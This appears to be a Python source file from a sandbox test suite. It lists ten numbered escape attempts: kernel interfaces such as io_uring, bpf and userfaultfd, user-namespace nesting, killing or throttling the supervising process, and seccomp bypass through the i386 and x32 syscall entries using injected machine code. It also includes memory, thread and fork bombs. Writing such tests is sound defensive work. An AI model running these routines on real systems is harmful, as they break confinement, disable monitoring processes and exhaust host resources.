"""Attempts on parts of the kernel that go around a filter, and some that the sixty-one do not name."""

import ctypes
import fcntl
import mmap
import os
import resource
import signal
import struct
import threading
import time
from functools import partial
from pathlib import Path

from sandbox.escapes.attacks.calls import Attack, Orders, attempt, child, hold, last, run, say, spill, system_call
from sandbox.escapes.attacks.writes import EXIT_CODE

_NEWUSER = 0x10000000
_CLOEXEC, _USER_MODE_ONLY = os.O_CLOEXEC, 1
_RING_BYTES = 120
_MAP_32BIT = 0x40
_X32 = 0x40000000
_SETSIG = 10


def set_up_ring(orders: Orders) -> None:
    attempt("io_uring_setup", lambda: system_call("io_uring_setup", 8, ctypes.create_string_buffer(_RING_BYTES)))
    hold(orders)


def open_kernel_doors(orders: Orders) -> None:
    array = struct.pack("IIIII", 2, 4, 4, 1, 0).ljust(72, b"\0")
    attempt("bpf", lambda: system_call("bpf", 0, ctypes.create_string_buffer(array, 72), 72))
    excluded = (1 << 5) | (1 << 6)  # the kernel and the hypervisor, as an ordinary user must
    event = struct.pack("IIQQQQQ", 1, 112, 0, 0, 0, 0, excluded).ljust(112, b"\0")
    attempt("perf", lambda: system_call("perf_event_open", ctypes.create_string_buffer(event, 112), 0, -1, -1, 0))
    attempt("userfaultfd", lambda: system_call("userfaultfd", _CLOEXEC | _USER_MODE_ONLY))
    hold(orders)


def nest_namespace(orders: Orders) -> None:
    def unshared() -> None:
        attempt("unshare", lambda: system_call("unshare", _NEWUSER))
        hold(orders)

    def cloned(name: str, *arguments: int | ctypes.Array[ctypes.c_char]) -> None:
        attempt(name, system_call, name, *arguments)
        hold(orders)  # the clone, if there is one, and its parent

    arguments = struct.pack("Q" * 8, _NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    children = [
        child(unshared),
        child(partial(cloned, "clone", _NEWUSER | signal.SIGCHLD, 0, 0, 0, 0)),
        child(partial(cloned, "clone3", ctypes.create_string_buffer(arguments, 64), 64)),
    ]
    for pid in children:
        os.waitpid(pid, 0)


def change_parents_limits(orders: Orders) -> None:
    decoy = orders.decoy
    attempt("prlimit", lambda: resource.prlimit(decoy, resource.RLIMIT_NOFILE, (64, 64)))
    attempt("nice", lambda: os.setpriority(os.PRIO_PROCESS, decoy, 19))
    attempt("affinity", lambda: os.sched_setaffinity(decoy, {min(os.sched_getaffinity(0))}))
    attempt("out of memory first", Path(f"/proc/{decoy}/oom_score_adj").write_text, "1000")
    attempt("scheduler", lambda: os.sched_setscheduler(decoy, os.SCHED_IDLE, os.sched_param(0)))
    hold(orders)


def _kill_by_pipe(pid: int) -> None:
    """The kernel signals whoever is named as the owner of a pipe, with the signal that is named."""
    reader, writer = os.pipe()
    fcntl.fcntl(reader, _SETSIG, signal.SIGKILL)
    fcntl.fcntl(reader, fcntl.F_SETOWN, pid)
    fcntl.fcntl(reader, fcntl.F_SETFL, fcntl.fcntl(reader, fcntl.F_GETFL) | os.O_ASYNC | os.O_NONBLOCK)
    os.write(writer, b"wake")


def kill_supervisor(orders: Orders) -> None:
    """Whoever started us inside the sandbox: its death must not turn into a good result."""
    if orders.confined and os.getppid() != orders.orchestrator:
        for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
            attempt(f"signal {number} to the supervisor", os.kill, os.getppid(), number)
        attempt("have the kernel kill it", _kill_by_pipe, os.getppid())
    hold(orders)
    say(f"ended {orders.id}")
    os._exit(EXIT_CODE)


def read_shared_memory(orders: Orders) -> None:
    library = ctypes.CDLL(None, use_errno=True)
    library.shmat.restype = ctypes.c_void_p

    def attach() -> bytes:
        address = library.shmat(orders.shared_memory, None, 0o10000)
        if address in (None, ctypes.c_void_p(-1).value):
            code = ctypes.get_errno()
            raise OSError(code, os.strerror(code))
        return ctypes.string_at(address, 256)

    spill("shared memory", attach)


def go_through_other_doors(orders: Orders) -> None:
    """The same kernel by its two older doors, whose calls have other numbers."""
    if os.uname().machine != "x86_64":
        say("this machine has no other door")
        return

    def by_i386() -> None:
        page = mmap.mmap(-1, 8192, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | _MAP_32BIT, 7)
        start = ctypes.addressof(ctypes.c_char.from_buffer(page))
        # push rbx; mov eax, 425; mov ebx, 8; mov ecx, <params>; int 0x80; pop rbx; ret
        code = b"\x53\xb8" + struct.pack("<I", 425) + b"\xbb\x08\0\0\0\xb9" + struct.pack("<I", start + 4096)
        page[: len(code) + 4] = code + b"\xcd\x80\x5b\xc3"
        answer = ctypes.CFUNCTYPE(ctypes.c_int)(start)()
        if answer < 0:
            raise OSError(-answer, os.strerror(-answer))

    def by_x32() -> None:
        library = ctypes.CDLL(None, use_errno=True)
        parameters = ctypes.create_string_buffer(_RING_BYTES)
        if library.syscall(ctypes.c_long(_X32 | 425), ctypes.c_long(8), parameters) < 0:
            code = ctypes.get_errno()
            raise OSError(code, os.strerror(code))

    def hold_after(label: str) -> None:
        attempt(label, by_i386 if label == "i386" else by_x32)
        hold(orders)

    for pid in [child(partial(hold_after, label)) for label in ("i386", "x32")]:
        os.waitpid(pid, 0)  # a filter may well kill whoever comes by this door


def fill_memory_files(orders: Orders) -> None:
    """Memory that belongs to no process: many files of moderate size that were never on a disk."""
    block = b"x" * (1 << 20)

    def fill() -> None:
        for number in range(orders.amount >> 24):
            handle = os.memfd_create(f"fill-{number}")
            for _ in range(16):
                os.write(handle, block)

    attempt("fill files in memory", fill)
    last(orders)


def thread_bomb(orders: Orders) -> None:
    threading.stack_size(64 << 10)
    made = 0

    def start() -> None:
        nonlocal made
        for _ in range(orders.amount):
            threading.Thread(target=time.sleep, args=(orders.life_s,), daemon=True).start()
            made += 1

    try:
        attempt("start threads", start)
        time.sleep(orders.life_s)
    except RuntimeError as error:
        say(f"tried to start thread {made}: {error!r}")
        hold(orders)
    say(f"ended {orders.id} with {made} threads")
    os._exit(0)


def zombie_bomb(orders: Orders) -> None:
    def start() -> None:
        for _ in range(orders.amount):
            child(lambda: None)

    attempt("fork", start)
    time.sleep(orders.life_s)


ATTACKS: dict[str, Attack] = {
    "S01": set_up_ring,
    "S02": open_kernel_doors,
    "S03": nest_namespace,
    "X01": change_parents_limits,
    "X02": kill_supervisor,
    "X03": read_shared_memory,
    "X04": go_through_other_doors,
    "X05": fill_memory_files,
    "X06": thread_bomb,
    "X07": zombie_bomb,
}

if __name__ == "__main__":
    run(ATTACKS)
